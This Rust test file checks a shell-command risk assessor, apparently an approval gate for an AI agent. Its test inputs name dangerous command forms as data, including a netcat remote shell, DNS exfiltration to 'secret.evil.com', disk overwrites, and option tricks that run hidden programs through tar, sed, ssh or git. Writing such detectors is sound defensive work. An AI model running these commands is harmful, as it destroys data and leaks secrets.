//! Wrappers, dangerous options and risks of programs.

use lanyard_protocol::approval::RiskLevel;
use proptest::prelude::*;

use super::{Assessment, assess, assess_all, risk};
use crate::shell;

fn words(text: &str) -> Vec<String> {
    shell::parse(text).unwrap_or_else(|why| panic!("{text}: {why}")).commands()[0].argv.clone()
}

fn of(text: &str) -> Assessment {
    assess(&words(text))
}

fn programs(text: &str) -> Vec<String> {
    assess_all(&words(text)).into_iter().map(|assessed| assessed.argv.join(" ")).collect()
}

#[test]
fn item_13_wrappers_are_judged_as_what_they_start() {
    for (text, inner) in [
        ("timeout 5 rm -rf x", "rm -rf x"),
        ("timeout -k 1 -s KILL --foreground 5s rm -rf x", "rm -rf x"),
        ("nohup rm -rf x", "rm -rf x"),
        ("nice -n 5 rm -rf x", "rm -rf x"),
        ("nice -19 rm -rf x", "rm -rf x"),
        ("setsid -w rm -rf x", "rm -rf x"),
        ("stdbuf -oL -e 0 rm -rf x", "rm -rf x"),
        ("time -p rm -rf x", "rm -rf x"),
        ("command -- rm -rf x", "rm -rf x"),
        ("exec rm -rf x", "rm -rf x"),
        ("busybox rm -rf x", "rm -rf x"),
        ("env rm -rf x", "rm -rf x"),
        ("env -i -u HOME A=b rm -rf x", "rm -rf x"),
        ("xargs -0 -n 1 rm -rf", "rm -rf"),
        ("sudo -u root rm -rf x", "rm -rf x"),
        ("sh -c 'rm -rf x'", "rm -rf x"),
        ("bash -ec 'true; rm -rf x'", "rm -rf x"),
        ("nohup env timeout 5 nice sh -c 'rm -rf x'", "rm -rf x"),
        ("find . -name y -exec rm -rf x +", "rm -rf x"),
        ("/usr/bin/env rm -rf x", "rm -rf x"),
    ] {
        assert!(programs(text).iter().any(|found| found == inner), "{text}: {:?}", programs(text));
        assert!(risk(&words(text)).level >= RiskLevel::High, "{text}");
    }
}

#[test]
fn item_13_wrappers_that_are_not_understood_are_asked_about() {
    for text in [
        "timeout --what 5 ls",
        "timeout",
        "nice",
        "env -S 'rm -rf x'",
        "env --split-string='rm x'",
        "env PATH=. ls",
        "env LD_PRELOAD=x ls",
        "xargs ls",
        "sudo ls",
        "sudo -s",
        "su -c ls",
        "doas ls",
        "exec -a x ls",
        "setsid -f ls",
        "sh",
        "sh -",
        "bash -i",
        "bash -lc ls",
        "bash -c ls x",
        "sh -c 'ls $(id)'",
        "sh -c 'ls *'",
        "fish -c ls",
        "busybox -x",
        "unshare ls",
        "chroot / ls",
        "tmux new",
        "strace ls",
        "flock x ls",
        "systemd-run ls",
        "watch ls",
        "parallel ls",
        "script -c ls x",
    ] {
        assert!(of(text).hidden.is_some(), "{text}: {:?}", of(text));
    }
    let deep = format!("{}ls", "nohup ".repeat(9));
    assert!(assess_all(&words(&deep)).iter().any(|assessed| assessed.assessment.opaque));
}

#[test]
fn item_14_options_that_start_programs() {
    for text in [
        "find . -exec sh {} +",
        "find . -execdir x {} \\;",
        "find . -ok x \\;",
        "find . -delete",
        "rg --pre=./x a",
        "rg --pre ./x a",
        "rg --hostname-bin=x a",
        "rg -z a",
        "sed 'w /tmp/x' f",
        "sed -n '1e id' f",
        "sed 's/a/b/w x' f",
        "sed 's/a/id/e' f",
        "sed -f x f",
        "sed -i.bak s/a/b/ f",
        "sed 's/a/b/;e id' f",
        "sed -e p -e 'w x' f",
        "sort --compress-program=./x f",
        "sort --comp ./x f",
        "tar --checkpoint-action=exec=id -cf x y",
        "tar --checkpoint=1 --checkpoint-act=exec=id -cf x y",
        "tar xf a --to-command=id",
        "tar cIf ./x a b",
        "tar -I ./x -xf a",
        "tar xf a --use-compress-program ./x",
        "fd -x rm",
        "fd --exec rm",
        "split --filter=id f",
        "zip -TT id a b",
        "awk 'BEGIN{system(\"id\")}'",
        "awk -f x f",
        "awk '{print > \"x\"}' f",
        "awk '{print | \"sh\"}' f",
        "gawk '@load \"x\"'",
        "man -P ./x ls",
        "less f",
        "vim f",
        "date -s 2020-01-01",
        "go build -toolexec ./x",
        "cargo --config x.toml build",
        "gcc -wrapper ./x a.c",
        "gcc -B. a.c",
        "rsync -e ./x a b:",
        "ssh -o ProxyCommand=id h",
        "ssh h",
        "curl -K x",
        "wget -e x=y u",
        "nc -e sh h 1",
        "patch -e p",
        "printf -v PATH x",
    ] {
        assert!(of(text).hidden.is_some(), "{text}: {:?}", of(text));
        assert!(!of(text).reads_only, "{text}");
    }
}

#[test]
fn item_14_files_written_by_options_are_named() {
    for (text, file) in [
        ("sort -o out in", "out"),
        ("sort --output=out in", "out"),
        ("sort -uo out in", "out"),
        ("uniq in out", "out"),
        ("tee -a out", "out"),
        ("cp a out", "out"),
        ("cp -t out a", "out"),
        ("dd if=a of=out", "out"),
        ("sed -i s/a/b/g out", "out"),
        ("curl -o out https://e.com", "out"),
        ("find . -fprint out", "out"),
        ("rm -rf out", "out"),
        ("sh -c 'echo x > out'", "out"),
        ("mv out b", "out"),
        ("gcc -o out a.c", "out"),
    ] {
        assert!(of(text).writes.iter().any(|written| written == file), "{text}: {:?}", of(text));
        assert!(!of(text).reads_only || text.starts_with("sh "), "{text}");
    }
}

#[test]
fn item_15_and_16_git_options_that_run_programs() {
    for text in [
        "git -c core.pager=./x log",
        "git -c core.fsmonitor=./x status",
        "git -ccore.pager=x log",
        "git --exec-path=. status",
        "git --config-env=a=B status",
        "git --git-dir=x status",
        "git -p log",
        "git log --output=.git/hooks/x",
        "git diff --outp=x",
        "git diff --ext-diff",
        "git log --textconv",
        "git fetch --upload-pack=./x",
        "git fetch --upload-pa ./x",
        "git clone --template=x u",
        "git clone -c core.hooksPath=x u",
        "git clone -u ./x h:p",
        "git push --receive-pack=./x",
        "git push --exec=./x",
        "git rebase --exec id",
        "git rebase -x id",
        "git grep -O./x a",
        "git grep --open-files-in-pager=./x a",
        "git archive --remote=x",
        "git fetch ext::sh",
        "git clone 'ext::sh -c id' d",
        "git ls-remote fd::3",
        "git config core.pager x",
        "git config alias.x y",
        "git bisect run ./x",
        "git submodule update",
        "git submodule foreach id",
        "git filter-branch",
        "git difftool",
        "git mergetool",
        "git hook run x",
        "git x",
        "git",
        "git daemon",
        "git send-email x",
        "git maintenance start",
        "git clone --recurse-submodules u",
    ] {
        assert!(of(text).hidden.is_some(), "{text}: {:?}", of(text));
    }
    for text in [
        "git status",
        "git --no-pager log -1 --oneline",
        "git -C sub diff HEAD~1 -- a",
        "git show HEAD:a",
        "git branch --list",
        "git remote -v",
        "git stash list",
        "git config --get user.name",
    ] {
        assert!(of(text).reads_only && of(text).hidden.is_none(), "{text}: {:?}", of(text));
    }
    assert_eq!(of("git push").risk.level, RiskLevel::Critical);
    assert_eq!(of("git reset --hard").risk.level, RiskLevel::Critical);
    assert_eq!(of("git clean -fd").risk.level, RiskLevel::Critical);
}

#[test]
fn item_17_runners_run_project_code() {
    for text in [
        "npm test",
        "npm run build",
        "pytest -q",
        "make",
        "cargo test",
        "python3 conftest.py",
        "python -m pytest",
        "./run.sh",
        "bash run.sh",
        "git commit -m x",
        "go test ./...",
        "node_modules/.bin/x",
        "../x",
    ] {
        assert!(of(text).project_code, "{text}: {:?}", of(text));
    }
    for text in
        ["npm install x", "pip install x", "npx x", "cargo install x", "uvx x", "python -m pip install x"]
    {
        assert!(of(text).hidden.is_some(), "{text}");
    }
}

#[test]
fn code_given_as_text_is_not_judged_but_asked_about() {
    for text in [
        "python -c x",
        "python3.12 -c x",
        "perl -e x",
        "perl -pi -e x f",
        "node -e x",
        "node --eval x",
        "ruby -e x",
        "php -r x",
        "lua5.4 -e x",
        "python",
        "osascript -e x",
        "deno eval x",
        "bun x y",
    ] {
        assert!(of(text).hidden.is_some(), "{text}: {:?}", of(text));
    }
    assert!(of("python --version").reads_only && of("env").reads_only);
}

#[test]
fn item_18_words_that_change_the_shell_are_never_plain() {
    for text in [
        "export PATH=.",
        "declare -x A=b",
        "typeset PAGER=x",
        "alias ls=rm",
        "source x",
        ". ./x",
        "eval ls",
        "set -a",
        "shopt -s x",
        "trap x EXIT",
        "hash -p ./x ls",
        "unset A",
        "read A",
        "let x=1",
        "enable -f x y",
    ] {
        let found = assess(&text.split(' ').collect::<Vec<_>>());
        assert!(found.hidden.is_some() && found.opaque, "{text}");
    }
}

#[test]
fn reading_commands_are_low_and_destroying_ones_critical() {
    for text in [
        "ls -la",
        "cat a",
        "grep -rn x src",
        "wc -l a",
        "sed -n 1,20p a",
        "sed 's/[a-z]*/x/g' a",
        "awk -F: '{print $1}' a",
        "find . -name '*.rs' -type f",
        "sort -u a",
        "head -5 a",
        "jq .a b",
        "tree -L 2",
        "rg x",
    ] {
        assert!(of(text).reads_only && of(text).hidden.is_none(), "{text}: {:?}", of(text));
        assert_eq!(risk(&words(text)).level, RiskLevel::Low, "{text}");
    }
    for text in [
        "rm -rf x",
        "rm -R x",
        "rm --recur x",
        "dd if=a of=/dev/sda",
        "mkfs.ext4 x",
        "shred x",
        "sudo ls",
        "systemctl stop x",
        "npm publish",
        "lanyard approve x",
    ] {
        assert_eq!(risk(&words(text)).level, RiskLevel::Critical, "{text}");
    }
    for text in
        ["curl https://e.com", "wget https://e.com", "nslookup secret.evil.com", "git fetch", "nc h 1"]
    {
        assert!(of(text).network, "{text}");
    }
}

#[test]
fn item_19_a_path_is_what_lies_there_not_what_its_name_says() {
    for text in ["./ls", "bin/git status", "/tmp/cat x", "/work/rm x"] {
        assert!(of(text).project_code && !of(text).reads_only, "{text}: {:?}", of(text));
    }
    assert!(of("/bin/ls").reads_only);
    assert!(of("/usr/bin/../../tmp/ls").project_code);
    assert_eq!(of("frobnicate").risk.level, RiskLevel::High);
}

proptest! {
    #[test]
    fn assessing_never_panics_and_ends(argv in prop::collection::vec("(env|sh|-c|sudo|find|-exec|;|nohup|git|-[a-z]{1,3}|--[a-z=]{0,6}|[a-z'$ ]{0,6})", 0..12)) {
        let all = assess_all(&argv);
        prop_assert!(!all.is_empty() && all.len() < 400);
        let _ = risk(&argv);
    }
}
